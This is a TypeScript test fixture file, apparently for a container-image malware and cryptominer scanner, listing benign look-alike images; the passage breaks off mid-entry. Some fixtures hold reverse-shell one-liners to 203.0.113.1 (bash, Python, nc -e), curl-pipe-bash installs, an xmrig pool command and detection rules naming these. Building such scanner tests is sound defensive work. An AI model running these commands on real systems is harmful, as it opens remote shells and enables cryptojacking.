import { createHash } from 'node:crypto';
import { bitcoinAddress, ethereumAddress, moneroAddress } from '../../testkit/addresses.ts';
import { base64, type ImageCase, image, layer, program, SSH_KEY, starts } from './image-case.ts';

const XMR = moneroAddress('twins');
const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };

function twin(name: string, spec: ImageCase['spec']): ImageCase {
  return { name, spec };
}

const ENTRYPOINTS: readonly ImageCase[] = [
  twin(
    'udev’s init script',
    image(
      {
        'etc/init.d/udev': `#!/bin/sh
NAME="systemd-udevd"
PIDFILE="/run/udev.pid"
OMITDIR="/run/sendsigs.omit.d"
[ -w /sys/kernel/uevent_helper ] && echo > /sys/kernel/uevent_helper
if start-stop-daemon --start --name $NAME --pidfile $PIDFILE --exec /usr/lib/systemd/systemd-udevd --background; then
  mkdir -p $OMITDIR
  ln -sf $PIDFILE $OMITDIR/$NAME
fi
`,
      },
      NGINX,
    ),
  ),
  twin(
    'a tool of a web mailer that asks for a password',
    image(
      {
        'usr/share/mailer/utils.php': `<?php
# ${'-'.repeat(75)}
$s = chr(8) . "x"; $p = strrev($s);
function ask() {
  $command = "/usr/bin/env bash -c 'read -s -p x password && echo \\$password'";
  return rtrim(shell_exec($command));
}
`,
      },
      NGINX,
    ),
  ),
  twin(
    'wait-for-it',
    starts(`
WAITFORIT_cmdname=\${0##*/}
echoerr() { if [[ $WAITFORIT_QUIET -ne 1 ]]; then echo "$@" 1>&2; fi }
wait_for() {
  WAITFORIT_start_ts=$(date +%s)
  while :; do
    if [[ $WAITFORIT_ISBUSY -eq 1 ]]; then
      nc -z $WAITFORIT_HOST $WAITFORIT_PORT
    else
      (echo -n > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1
    fi
    WAITFORIT_result=$?
    [[ $WAITFORIT_result -eq 0 ]] && break
    sleep 1
  done
  return $WAITFORIT_result
}
wait_for
exec "\${WAITFORIT_CLI[@]}"`),
  ),
  twin(
    'waiting with an open descriptor',
    starts('until exec 3<>/dev/tcp/db/5432; do sleep 1; done 2>/dev/null\nexec 3>&-\nexec node server.js'),
  ),
  twin(
    'asking a server over /dev/tcp',
    starts(
      'exec 3<>/dev/tcp/127.0.0.1/9200\nprintf "GET /_cluster/health HTTP/1.0\\r\\n\\r\\n" >&3\nwhile read -r line <&3; do case "$line" in *green*) break ;; esac; done\nexec 3<&-\nexec elasticsearch',
    ),
  ),
  twin(
    'a health check over /dev/tcp',
    image(
      {},
      {
        ...NGINX,
        Healthcheck: {
          Test: [
            'CMD-SHELL',
            'bash -c "exec 5<>/dev/tcp/127.0.0.1/3000 && echo -e \'GET /health HTTP/1.1\\n\' >&5 && grep -q 200 <&5"',
          ],
        },
      },
    ),
  ),
  twin(
    'health checks',
    image(
      {},
      {
        ...NGINX,
        Healthcheck: {
          Test: [
            'CMD-SHELL',
            'curl -fsS http://localhost/health || wget -qO- http://127.0.0.1/ | grep -q ok || nc -z localhost 80 || exit 1',
          ],
        },
      },
    ),
  ),
  twin(
    'a health check that parses',
    image(
      {},
      {
        ...NGINX,
        Healthcheck: {
          Test: [
            'CMD-SHELL',
            "curl -s http://localhost:9200/_cluster/health | python3 -c \"import sys,json; sys.exit(json.load(sys.stdin)['status'] != 'green')\"",
          ],
        },
      },
    ),
  ),
  twin(
    'postgres',
    starts(`set -Eeo pipefail
file_env() {
  local var="$1" fileVar="\${1}_FILE" def="\${2:-}" val
  val="$def"
  if [ "\${!var:-}" ]; then val="\${!var}"; elif [ "\${!fileVar:-}" ]; then val="$(< "\${!fileVar}")"; fi
  export "$var"="$val"; unset "$fileVar"
}
docker_process_init_files() {
  local f
  for f; do
    case "$f" in
      *.sh) if [ -x "$f" ]; then "$f"; else . "$f"; fi ;;
      *.sql) psql -v ON_ERROR_STOP=1 -f "$f" ;;
      *.sql.gz) gunzip -c "$f" | psql ;;
      *.sql.zst) zstd -dc "$f" | psql ;;
    esac
  done
}
if [ "$(id -u)" = '0' ]; then exec gosu postgres "$BASH_SOURCE" "$@"; fi
eval 'initdb --username="$POSTGRES_USER" --pwfile=<(printf "%s\\n" "$POSTGRES_PASSWORD") '"$POSTGRES_INITDB_ARGS"' "$@"'
{ printf '\\n'; [ 'trust' != "$POSTGRES_HOST_AUTH_METHOD" ] || printf '# warning\\n'; printf 'host all all all %s\\n' "$POSTGRES_HOST_AUTH_METHOD"; } >> "$PGDATA/pg_hba.conf"
exec "$@"`),
  ),
  twin(
    'mysql',
    starts(`mysql_note() { printf '%s [Note] %s\\n' "$(date --rfc-3339=seconds)" "$*"; }
mysql=( mysql --protocol=socket -uroot -hlocalhost --socket="$SOCKET" )
if [ -n "$MYSQL_RANDOM_ROOT_PASSWORD" ]; then MYSQL_ROOT_PASSWORD="$(openssl rand -base64 24)"; fi
if [ -n "$MYSQL_ONETIME_PASSWORD" ]; then "\${mysql[@]}" <<< "ALTER USER 'root'@'%' PASSWORD EXPIRE;"; fi
[ -z "$MYSQL_USER" ] || echo "CREATE USER '$MYSQL_USER'@'%' IDENTIFIED BY '$MYSQL_PASSWORD' ;" | "\${mysql[@]}"
mysql_tzinfo_to_sql /usr/share/zoneinfo | sed 's/Local time zone must be set/FCTY/' | "\${mysql[@]}" mysql
exec mysqld "$@"`),
  ),
  twin(
    'redis',
    starts(`if [ "\${1#-}" != "$1" ] || [ "\${1%.conf}" != "$1" ]; then set -- redis-server "$@"; fi
if [ "$1" = 'redis-server' ] && [ "$(id -u)" = '0' ]; then find . \\! -user redis -exec chown redis '{}' +; exec gosu redis "$0" "$@"; fi
um="$(umask)"; if [ "$um" = '0022' ]; then umask 0077; fi
exec "$@"`),
  ),
  twin(
    'nginx',
    starts(
      `for f in $(find "/docker-entrypoint.d/" -follow -type f -print | sort -V); do case "$f" in *.envsh) . "$f" ;; *.sh) "$f" ;; esac; done\nexec "$@"`,
      {
        'docker-entrypoint.d/20-envsubst-on-templates.sh':
          '#!/bin/sh\ndefined_envs=$(printf \'${%s} \' $(awk "END { for (name in ENVIRON) { print ( name ~ /${filter}/ ) ? name : \\"\\" } }" < /dev/null ))\nenvsubst "$defined_envs" < "$template" > "$output_path"\n',
        'docker-entrypoint.d/30-tune-worker-processes.sh':
          '#!/bin/sh\ncat /proc/self/mountinfo | sed -n 1p\n',
      },
    ),
  ),
  twin(
    'rabbitmq',
    starts(
      `if [ "\${RABBITMQ_ERLANG_COOKIE:-}" ]; then cookieFile='/var/lib/rabbitmq/.erlang.cookie'; echo "$RABBITMQ_ERLANG_COOKIE" > "$cookieFile"; chmod 600 "$cookieFile"; fi\nexec rabbitmq-server`,
      {
        'usr/lib/rabbitmq/priv/www/js/singular.min.js': `!function(t,e){"object"==typeof exports?module.exports=e():t.Sammy=e()}(this,function(){var g=new Function("return this")();function c(t){return new Function("obj","with(obj){return "+JSON.stringify(t)+"}")}var b="${base64('abcdefghijklmnopqrstuvwxyz')}",d=atob(b);return eval("("+t+")"),g});\n`,
      },
    ),
  ),
  twin(
    'wordpress',
    starts(
      `if [ ! -e index.php ] && [ ! -e wp-includes/version.php ]; then
  tar --create --file - --directory /usr/src/wordpress . | tar --extract --file - --directory .
  wpConfigDocker=/usr/src/wordpress/wp-config-docker.php
  awk '/put your unique phrase here/ { cmd = "head -c1m /dev/urandom | sha1sum | cut -d\\\\  -f1"; cmd | getline str; close(cmd); gsub("put your unique phrase here", str) } { print }' "$wpConfigDocker" > wp-config.php
fi
exec apache2-foreground`,
      {
        'usr/src/wordpress/wp-includes/class-snoopy.php':
          "<?php\nclass Snoopy {\n function _connect(&$fp) {\n  if ($fp = fsockopen($host, $port, $errno, $errstr, $this->_fp_timeout)) return true;\n }\n function _httpsrequest($URI) { exec($this->curl_path.' -D \"'.$headerfile.'\" '.escapeshellarg($URI), $results, $return); }\n}\n",
        'usr/src/wordpress/wp-includes/load.php':
          '<?php\n$body = base64_decode($encoded);\neval("?>" . $template);\n',
      },
    ),
  ),
  twin(
    'ghost',
    starts(
      'set -e\nif [[ "$*" == node*current/index.js* ]] && [ "$(id -u)" = 0 ]; then find "$GHOST_CONTENT" \\! -user node -exec chown node {} +; exec gosu node "$BASH_SOURCE" "$@"; fi\nfor d in content/*; do cp -R "$d" "$GHOST_CONTENT"; done\nexec "$@"',
    ),
  ),
  twin(
    'elasticsearch',
    starts(`if [[ -f bin/elasticsearch-users ]]; then
  if [[ -n "$ELASTIC_PASSWORD" ]]; then
    if ! (run_as_other_user_if_needed elasticsearch-keystore has-passwd --silent) ; then
      (run_as_other_user_if_needed echo "$ELASTIC_PASSWORD" | elasticsearch-keystore add -x 'bootstrap.password')
    fi
  fi
fi
exec /usr/share/elasticsearch/bin/elasticsearch "$@" <<< "$KEYSTORE_PASSWORD"`),
  ),
  twin(
    'jenkins',
    starts(
      `: "\${JENKINS_HOME:="/var/jenkins_home"}"
find "\${REF}" \\( -type f -o -type l \\) -exec bash -c '. /usr/local/bin/jenkins-support; for arg; do copy_reference_file "$arg"; done' _ {} +
java_opts_array=()
while IFS= read -r -d '' item; do java_opts_array+=( "$item" ); done < <([[ $JAVA_OPTS ]] && xargs printf '%s\\0' <<<"$JAVA_OPTS")
exec java -Duser.home="$JENKINS_HOME" "\${java_opts_array[@]}" -jar /usr/share/jenkins/jenkins.war "$@"`,
      {
        'usr/local/bin/jenkins-support':
          '#!/bin/bash\nretry_command() { local max=3; while ! "$@"; do sleep 1; done; }\n',
        'usr/local/bin/jenkins-plugin-cli':
          '#!/bin/bash\ncurl -sSfL "$JENKINS_UC/plugins/$1.hpi" -o "$REF/plugins/$1.jpi"\nunzip -t "$REF/plugins/$1.jpi"\n',
      },
    ),
  ),
  twin(
    'gitlab-runner',
    starts(
      'CA_CERTIFICATES_PATH=${CA_CERTIFICATES_PATH:-$DATA_DIR/certs/ca.crt}\nupdate_ca() { echo "Updating CA certificates..."; cp "$CA_CERTIFICATES_PATH" "$LOCAL_CA_PATH"; update-ca-certificates --fresh >/dev/null; }\nexec gitlab-runner "$@"',
    ),
  ),
  twin(
    'node',
    starts(
      '#!/bin/sh\nset -e\nif [ "${1#-}" != "${1}" ] || [ -z "$(command -v "${1}")" ] || { [ -f "${1}" ] && ! [ -x "${1}" ]; }; then set -- node "$@"; fi\nexec "$@"',
    ),
  ),
  twin(
    'python',
    image(
      {
        'app/manage.py':
          '#!/usr/bin/env python3\nimport os, subprocess, socket\nfrom urllib.request import urlopen\n\ndef wait(host, port):\n    s = socket.socket()\n    while s.connect_ex((host, port)):\n        pass\n\nif __name__ == "__main__":\n    wait("db", 5432)\n    assert urlopen("http://web:8000/health").status == 200\n    subprocess.call(["sh", "-c", "python -m gunicorn app.wsgi"])\n',
      },
      { Cmd: ['python3', '/app/manage.py'], WorkingDir: '/app' },
    ),
  ),
  twin(
    'the entrypoint of php-fpm',
    starts('if [ "${1#-}" != "$1" ]; then set -- php-fpm "$@"; fi\nexec "$@"', {
      'usr/local/etc/php-fpm.d/www.conf':
        '[www]\nuser = www-data\nlisten = 127.0.0.1:9000\npm = dynamic\npm.max_children = 5\n',
      'usr/local/bin/docker-php-ext-install': '#!/bin/sh\nset -e\ncd /usr/src/php/ext\nmake -j "$(nproc)"\n',
    }),
  ),
  twin(
    'vault-like',
    starts(
      'VAULT_TOKEN=$(curl -s --request POST --data "$LOGIN" http://vault:8200/v1/auth/login | jq -r .auth.client_token)\nexport VAULT_TOKEN\neval "$(vault-env export)"\nexec app',
    ),
  ),
  twin(
    'environment out of a metadata service',
    starts(
      'REGION=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nexport REGION\nif [ -n "$CONFIG_URL" ]; then curl -fsSL "$CONFIG_URL" -o /etc/app/config.yaml; fi\nexec app --config /etc/app/config.yaml',
    ),
  ),
  twin(
    'certificates out of variables',
    starts(
      'echo "$TLS_KEY" | base64 -d > /run/key.pem\nprintf %s "$KUBECONFIG_B64" | base64 --decode > ~/.kube/config\nexec app',
    ),
  ),
  twin(
    'an init container that fetches data',
    starts(
      'curl -fsSL https://downloads.example/geoip.tar.gz | tar xz -C /data\nwget -q https://downloads.example/model.bin -O /data/model.bin\nexec serve --model /data/model.bin',
    ),
  ),
  twin(
    'an ssh server for people',
    starts(
      'ssh-keygen -A\nif [ -n "$PUBLIC_KEY" ]; then mkdir -p /root/.ssh; echo "$PUBLIC_KEY" >> /root/.ssh/authorized_keys; fi\nexec /usr/sbin/sshd -D -e',
      {
        'usr/sbin/sshd': program(),
        'etc/ssh/sshd_config':
          'Port 22\n#PermitRootLogin prohibit-password\nUsePAM yes\nAuthorizedKeysFile .ssh/authorized_keys\nSubsystem sftp internal-sftp\n',
      },
    ),
  ),
  twin(
    'a user made at start',
    starts(
      'addgroup -g "$PGID" app; adduser -D -u "$PUID" -G app -h /home/app app\necho "app:x:$PUID:$PGID::/home/app:/bin/sh" >> /etc/passwd\nexec su-exec app "$@"',
    ),
  ),
  twin(
    'OpenShift: a line for a random user',
    starts(
      'if ! whoami >/dev/null 2>&1; then echo "${USER_NAME:-default}:x:$(id -u):0:${USER_NAME:-default} user:${HOME}:/sbin/nologin" >> /etc/passwd; fi\nexec "$@"',
    ),
  ),
  twin(
    'an ssh tunnel to a database',
    starts('ssh -f -N -L 5432:db.example:5432 tunnel@bastion.example\nexec app'),
  ),
  twin(
    'socat as a proxy',
    starts(
      'socat TCP-LISTEN:2375,fork,reuseaddr UNIX-CONNECT:/var/run/docker.sock &\nsocat TCP-LISTEN:5432,fork TCP:db:5432 &\nexec app',
    ),
  ),
  twin('a fifo for logs', starts('mkfifo -m 600 /tmp/logpipe\ncat <> /tmp/logpipe 1>&2 &\nexec cron -f')),
  twin(
    'reading a memcached',
    starts(
      "echo stats | nc -q1 memcached 11211 | awk '/curr_items/ {print $3}'\necho ruok | nc 127.0.0.1 2181 | grep -q imok\nexec app",
    ),
  ),
  twin(
    'openssl to look at a certificate',
    starts(
      'openssl s_client -connect db:5432 -starttls postgres </dev/null 2>/dev/null | openssl x509 -noout -enddate\nexec app',
    ),
  ),
];

const SEEN_IN_DEBIAN: readonly ImageCase[] = [
  twin(
    'a server in Perl that writes to its log (BackupPC)',
    image(
      {
        'usr/share/backup/bin/Server':
          '#!/usr/bin/perl\nuse Socket;\nsocket(SERVER_INET, PF_INET, SOCK_STREAM, $proto);\nlisten(SERVER_INET, SOMAXCONN);\nmy $paddr = accept(CLIENT, SERVER_INET);\nclose(STDOUT);\nopen(STDOUT, ">&LOG");\nopen(STDERR, ">&LOG");\nopen(STDIN, "<", "/dev/null");\nexec(@$cmd);\n',
      },
      { Cmd: ['/usr/share/backup/bin/Server'] },
    ),
  ),
  twin(
    'a runner of tests with a path of its own (devscripts)',
    starts(
      '#!/usr/bin/env python3\nimport os\nimport subprocess as ipc\n\nclass Test:\n    def __init__(self, path):\n        self.path = path\n\n    def run(self):\n        environ = dict(os.environ)\n        return ipc.Popen([self.path], env=environ)\n',
    ),
  ),
  twin(
    'options that are added one by one (traceroute)',
    starts(
      'opts="-T -O info"\nwhile [ $# -gt 0 ]; do\n  case "$1" in\n    -S) opts="$opts -O syn"; shift ;;\n    -A) opts="$opts -O ack"; shift ;;\n    -E) opts="$opts -O ecn"; shift ;;\n  esac\ndone\nexec traceroute $opts "$host" $length',
    ),
  ),
  twin(
    'a page that quotes for the shell (gitweb)',
    image(
      {
        'usr/lib/cgi-bin/git.cgi':
          '#!/usr/bin/perl\nuse CGI;\nmy $cgi = CGI->new;\nmy $hash = $cgi->param("h");\nsub quote_command {\n\treturn join(" ",\n\t\tmap { my $a = $_; $a =~ s/([\'!])/\'\\\\$1\'/g; "\'$a\'" } @_ );\n}\nopen my $fd, quote_command("git", "cat-file", "blob", $hash) . " | head -1 |";\n',
      },
      { Cmd: ['apache2-foreground'] },
    ),
  ),
  twin(
    'a library that turns texts round and evaluates (Ace, ExtJS)',
    image(
      {
        'usr/share/web/js/worker.js': `function decode(a){return String.fromCharCode(a)}var text=decode(1);var reversed=[1].reverse();var definitions=require("defs"),start=decode(2);eval(definitions.consts);${'var a=1;'.repeat(300)}eval("this.f=function(){return "+text+"}");\n`,
      },
      NGINX,
    ),
  ),
];

const BUILT: readonly ImageCase[] = [
  twin(
    'curl | bash while building',
    image(
      [
        layer(
          { 'usr/bin/node': program() },
          {
            createdBy:
              'RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_22.x | bash - && apt-get install -y nodejs # buildkit',
          },
        ),
        layer(
          { 'root/.cargo/bin/cargo': program() },
          { createdBy: "/bin/sh -c curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y" },
        ),
        {
          createdBy:
            '/bin/sh -c wget -qO- https://get.pnpm.io/install.sh | ENV="$HOME/.bashrc" SHELL="$(which bash)" bash -',
        },
      ],
      NGINX,
    ),
  ),
  twin(
    'installers that lie about',
    image(
      {
        'root/.nvm/install.sh':
          '#!/usr/bin/env bash\n{ # this ensures the entire script is downloaded #\nnvm_download() { curl --fail --compressed -q "$@"; }\ninstall_nvm_as_script() { nvm_download -s "$NVM_SOURCE_LOCAL" -o "$INSTALL_DIR/nvm.sh"; chmod a+x "$INSTALL_DIR/nvm-exec"; }\n\\. "$INSTALL_DIR/nvm.sh"\n}\n',
        'usr/src/rustup-init.sh':
          '#!/bin/sh\ndownloader() { curl --silent --show-error --fail --location "$1" --output "$2"; }\nmain() { local _url="https://static.rust-lang.org/rustup/dist/x86_64/rustup-init"; _file="$(mktemp -d)/rustup-init"; downloader "$_url" "$_file"; chmod u+x "$_file"; "$_file" "$@"; }\nmain "$@"\n',
        'usr/local/bin/install-plugins.sh':
          '#!/bin/bash\ncurl -sSL https://updates.example/plugins.sh | bash\n',
        'opt/src/Makefile': 'install:\n\tcurl -sSL https://get.example/install.sh | sh\n',
      },
      NGINX,
    ),
  ),
  twin(
    'checks of source code in CI',
    starts(
      'cd /src && git clone https://git.example/a/b.git . && go list ./... && go vet ./... && make -n all',
    ),
  ),
  twin(
    'Dockerfiles in the image',
    image(
      {
        'srv/Dockerfile':
          'FROM debian\nRUN curl -sSL https://get.example/install.sh | bash\nENTRYPOINT ["/entrypoint.sh"]\n',
        'srv/.github/workflows/ci.yml':
          'jobs:\n  a:\n    steps:\n      - run: curl -sSL https://get.example/i.sh | bash\n',
      },
      NGINX,
    ),
  ),
  twin(
    'git hooks',
    image(
      {
        'srv/.git/hooks/pre-commit.sample': '#!/bin/sh\nexec git diff-index --check --cached $against --\n',
        'srv/.git/hooks/fsmonitor-watchman.sample':
          "#!/usr/bin/perl\nuse IPC::Open2;\nmy $pid = open2(\\*CHLD_OUT, \\*CHLD_IN, 'watchman -j');\neval { $json = from_json($o); };\n",
      },
      NGINX,
    ),
  ),
  twin(
    'a package manager folder',
    image(
      {
        'root/.cache/pip/http/a': program(),
        'usr/lib/node_modules/npm/bin/npm-cli.js': '#!/usr/bin/env node\nrequire("../lib/cli.js")(process)\n',
        'usr/lib/node_modules/npm/node_modules/node-gyp/gyp/x.py':
          'import subprocess\nsubprocess.check_call(["curl", "-o", "a", "https://x.example"])\n',
      },
      NGINX,
    ),
  ),
  twin(
    'removed build tools',
    image(
      [
        layer({
          'tmp/build/configure': '#!/bin/sh\nexit 0\n',
          'usr/bin/gcc': program(),
          'root/.gnupg/trustdb.gpg': 'x',
        }),
        layer({ 'tmp/.wh.build': '', 'usr/bin/.wh.gcc': '', 'root/.wh..gnupg': '' }),
      ],
      NGINX,
    ),
  ),
];

const DATA: readonly ImageCase[] = [
  twin(
    'monerod with its data',
    image(
      {
        'usr/local/bin/monerod': program([
          'monerod',
          'randomx',
          'cryptonight',
          'start_mining',
          'mining_status',
          'hashrate',
          'p2p-bind-ip',
          'block-sync-size',
          'huge-pages',
        ]),
        'home/monero/.bitmonero/monerod.conf':
          'data-dir=/home/monero/.bitmonero\nrpc-bind-ip=0.0.0.0\nrpc-bind-port=18089\nout-peers=64\nadd-priority-node=node.example:18080\n',
      },
      { Entrypoint: ['monerod', '--non-interactive'] },
    ),
  ),
  twin(
    'a block-list',
    image(
      {
        'etc/pihole/gravity.list': [
          'minexmr.com',
          'supportxmr.com',
          'nanopool.org',
          '2miners.com',
          'hashvault.pro',
          'nicehash.com',
          'f2pool.com',
          'c3pool.com',
          'moneroocean.stream',
        ]
          .map((h) => `0.0.0.0 pool.${h}`)
          .join('\n'),
        'etc/unbound/unbound.conf.d/block.conf':
          'local-zone: "minexmr.com" refuse\nlocal-zone: "supportxmr.com" refuse\n',
      },
      NGINX,
    ),
  ),
  twin(
    'a firewall script',
    starts(
      'for h in pool.minexmr.com xmr.nanopool.org; do iptables -A OUTPUT -d "$h" -j DROP; done\niptables -A OUTPUT -p tcp --dport 3333 -j REJECT\npkill -f "xmrig|minerd|stratum+tcp"\nexec app',
    ),
  ),
  twin(
    'YARA rules',
    image(
      {
        'opt/yara/miner.yar':
          'rule XMRig { strings: $a = "stratum+tcp://" $b = "donate-level" $c = "\\"pools\\":" $d = "randomx" condition: 2 of them }\nrule Shell { strings: $s = "bash -i >& /dev/tcp/" condition: $s }\n',
      },
      NGINX,
    ),
  ),
  twin(
    'Sigma rules',
    image(
      {
        'opt/sigma/proc_creation_lnx_cryptojacking.yml':
          "title: Miner\ndetection:\n  selection:\n    CommandLine|contains:\n      - ' --donate-level='\n      - 'stratum+tcp://'\n      - ' --nicehash'\n      - 'pool.minexmr.com:4444'\n      - 'bash -i >& /dev/tcp/'\n",
      },
      NGINX,
    ),
  ),
  twin(
    'Falco rules',
    image(
      {
        'etc/falco/falco_rules.yaml':
          '- list: miner_domains\n  items: ["pool.minexmr.com:443", "xmr-eu1.nanopool.org:14433", "stratum+tcp://x:3333"]\n- rule: Detect crypto miners using the Stratum protocol\n  condition: spawned_process and (proc.cmdline contains "stratum+tcp" or proc.cmdline contains "stratum2+ssl")\n- rule: Redirect to network\n  desc: bash -i >& /dev/tcp/1.2.3.4/443 0>&1\n',
      },
      NGINX,
    ),
  ),
  twin(
    'Suricata rules',
    image(
      {
        'etc/suricata/rules/coin.rules':
          'alert tcp any any -> any any (msg:"stratum mining.subscribe"; content:"mining.subscribe"; content:"mining.authorize"; sid:1;)\n',
        'var/lib/suricata/rules/a.rules':
          'alert dns any any -> any any (msg:"DNS pool"; dns.query; content:"pool.supportxmr.com"; sid:2;)\n',
      },
      NGINX,
    ),
  ),
  twin(
    'antivirus names',
    image(
      {
        'usr/share/clamav/names.txt':
          'Multios.Coinminer.Miner-6781728-2\nUnix.Trojan.Mirai\nUnix.Coinminer.XMRig\n',
        'usr/bin/clamscan': program([
          'coinminer',
          'ransomware',
          'rootkit',
          'cryptominer',
          'stratum+tcp',
          'donate-level',
          'randomx',
          'xmrig/',
          'mining.subscribe',
          'mining.authorize',
        ]),
      },
      { Cmd: ['freshclam', '-d'] },
    ),
  ),
  twin(
    'READMEs',
    image(
      {
        'README.md': `# Mining\nRun \`xmrig -o pool.minexmr.com:443 -u ${XMR} --donate-level 1\`.\n\n    bash -i >& /dev/tcp/203.0.113.1/443 0>&1\n    curl -sSL https://x.example/i.sh | bash\n`,
        'usr/share/doc/xmr/README': `Donate XMR: ${XMR}\n`,
        'opt/app/docs/shells.txt':
          'python -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'\n',
      },
      NGINX,
    ),
  ),
  twin(
    'donation lines',
    image(
      {
        'opt/app/about.json': JSON.stringify({
          name: 'app',
          donations: { monero: XMR, bitcoin: bitcoinAddress('d') },
        }),
        'opt/app/NOTICE': `Support the project: ${XMR}\n`,
        'opt/app/FUNDING.yml': `custom: ["https://x.example"]\n# XMR ${XMR}\n`,
      },
      NGINX,
    ),
  ),
  twin(
    'test fixtures with keys',
    image(
      {
        'opt/app/tests/fixtures/authorized_keys': `${SSH_KEY}\n`,
        'opt/app/testdata/id_ed25519.pub': `${SSH_KEY}\n`,
        'opt/app/tests/data/shell.sh': '#!/bin/sh\nnc -e /bin/sh 203.0.113.1 443\n',
      },
      NGINX,
    ),
  ),
  twin(
    'an ssh client',
    image(
      {
        'root/.ssh/known_hosts': `git.example ${SSH_KEY}\n`,
        'root/.ssh/config': 'Host *\n  StrictHostKeyChecking no\n',
        'etc/ssh/ssh_known_hosts': `git.example ${SSH_KEY}\n`,
        'root/.ssh/id_ed25519.pub': `${SSH_KEY}\n`,
      },
      NGINX,
    ),
  ),
  twin(
    'an sshd with locked accounts',
    image(
      {
        'usr/sbin/sshd': program(),
        'etc/ssh/sshd_config':
          'Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\nSubsystem sftp /usr/lib/openssh/sftp-server\n',
        'etc/passwd':
          'root:x:0:0:root:/root:/bin/bash\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\ngit:x:1000:1000::/home/git:/bin/bash\n',
        'etc/shadow': 'root:*:19000:0:99999:7:::\nsshd:!:19000::::::\ngit:!:19000:0:99999:7:::\n',
      },
      { Cmd: ['/usr/sbin/sshd', '-D'] },
    ),
  ),
  twin(
    "Alpine's accounts",
    image(
      {
        'etc/passwd':
          'root:x:0:0:root:/root:/bin/sh\nbin:x:1:1:bin:/bin:/sbin/nologin\nsync:x:5:0:sync:/sbin:/bin/sync\nshutdown:x:6:0:shutdown:/sbin:/sbin/shutdown\nhalt:x:7:0:halt:/sbin:/sbin/halt\noperator:x:11:0:operator:/root:/sbin/nologin\nntp:x:123:123:NTP:/var/empty:/sbin/nologin\nguest:x:405:100:guest:/dev/null:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n',
        'etc/shadow':
          'root:*::0:::::\nbin:!::0:::::\nsync:!::0:::::\nshutdown:!::0:::::\nhalt:!::0:::::\noperator:!::0:::::\nntp:!::0:::::\nguest:!::0:::::\nnobody:!::0:::::\n',
      },
      { Cmd: ['/bin/sh'] },
    ),
  ),
  twin(
    "Debian's accounts",
    image(
      {
        'etc/passwd':
          'root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\ngames:x:5:60:games:/usr/games:/usr/sbin/nologin\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n',
        'etc/shadow':
          'root:*:20000:0:99999:7:::\nsync:*:20000:0:99999:7:::\ngames:*:20000:0:99999:7:::\n_apt:*:20000:0:99999:7:::\nnobody:*:20000:0:99999:7:::\n',
        'etc/shadow-': 'root:*:20000:0:99999:7:::\n',
      },
      { Cmd: ['bash'] },
    ),
  ),
  twin(
    'FreeBSD-like toor, locked',
    image(
      { 'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n+::::::\n', 'etc/shadow': 'root:!:1::::::\n' },
      NGINX,
    ),
  ),
  twin(
    'busybox',
    image(
      {
        'bin/busybox': program([
          'nc [OPTIONS] HOST PORT',
          'telnetd',
          'wget',
          'httpd',
          '-e PROG\tRun PROG after connect',
          'sh',
          'ash',
          'base64',
          '/dev/tcp/',
        ]),
      },
      { Cmd: ['/bin/busybox', 'sh'] },
    ),
  ),
  twin(
    'test vectors of crypto libraries',
    image(
      {
        'opt/lib/vectors.json': JSON.stringify(
          Array.from({ length: 60 }, (_, i) => ({
            hash: createHash('sha1').update(`${i}`).digest('hex'),
            address: bitcoinAddress(`v${i}`),
            xmr: moneroAddress(`v${i}`),
          })),
        ),
        'opt/lib/test_address.py': `import unittest\nVECTORS = ["${ethereumAddress('a')}", "${bitcoinAddress('b')}"]\n`,
      },
      NGINX,
    ),
  ),
  twin(
    'web3 modules',
    image(
      {
        'app/node_modules/web3-utils/lib/index.js': `var ZERO="0x0000000000000000000000000000000000000000";var A="${ethereumAddress('w')}";module.exports={mining:true,hashrate:function(){return this.call("eth_hashrate")},submit:"eth_submitHashrate",submitWork:"eth_submitWork"};\n`,
        'app/node_modules/ethers/dist/ethers.min.js': `!function(){var r="${ethereumAddress('e')}",n="${bitcoinAddress('n')}";Function("return this")()}();\n`,
        'app/config.js': `module.exports = { rpc: 'https://mainnet.example/v3', contract: '${ethereumAddress('c')}', pool: { min: 2, max: 10 }, wallet: process.env.WALLET };\n`,
      },
      { Cmd: ['node', '/app/config.js'] },
    ),
  ),
  twin(
    'dashboards for miners',
    image(
      {
        'var/lib/grafana/dashboards/xmrig.json': JSON.stringify({
          title: 'XMRig',
          panels: [
            { title: 'Hashrate', targets: [{ expr: 'sum(xmrig_hashrate{rig="a"})' }] },
            { title: 'Pool', targets: [{ expr: 'xmrig_pool_shares_total{pool="pool.supportxmr.com:443"}' }] },
          ],
          tags: ['mining', 'nicehash'],
        }),
        'etc/prometheus/prometheus.yml':
          'scrape_configs:\n  - job_name: xmrig\n    static_configs:\n      - targets: ["miner.example:9100"]\n        labels: { pool: nanopool, worker: rig1 }\n',
      },
      { Cmd: ['grafana-server'] },
    ),
  ),
  twin(
    'hash functions in a library',
    image(
      {
        'usr/lib/libcrypto-hashes.so': program([
          'randomx_create_vm',
          'ethash_light_new',
          'argon2id_hash_raw',
          'yespower',
          'cryptonight_hash',
          'huge-pages',
        ]),
        'usr/lib/python3/dist-packages/hashes/__init__.py':
          'ALGORITHMS = ["randomx", "ethash", "argon2", "kawpow"]\n',
      },
      NGINX,
    ),
  ),
  twin(
    'metric names',
    image(
      {
        'opt/exporter': program([
          'node_cpu_seconds_total',
          'xmrig_hashrate',
          'miner_shares_accepted',
          'nicehash',
          'pool_difficulty',
          'hashrate',
        ]),
      },
      { Cmd: ['/opt/exporter'] },
    ),
  ),
  twin(
    'connection pools',
    image(
      {
        'etc/pgbouncer/pgbouncer.ini':
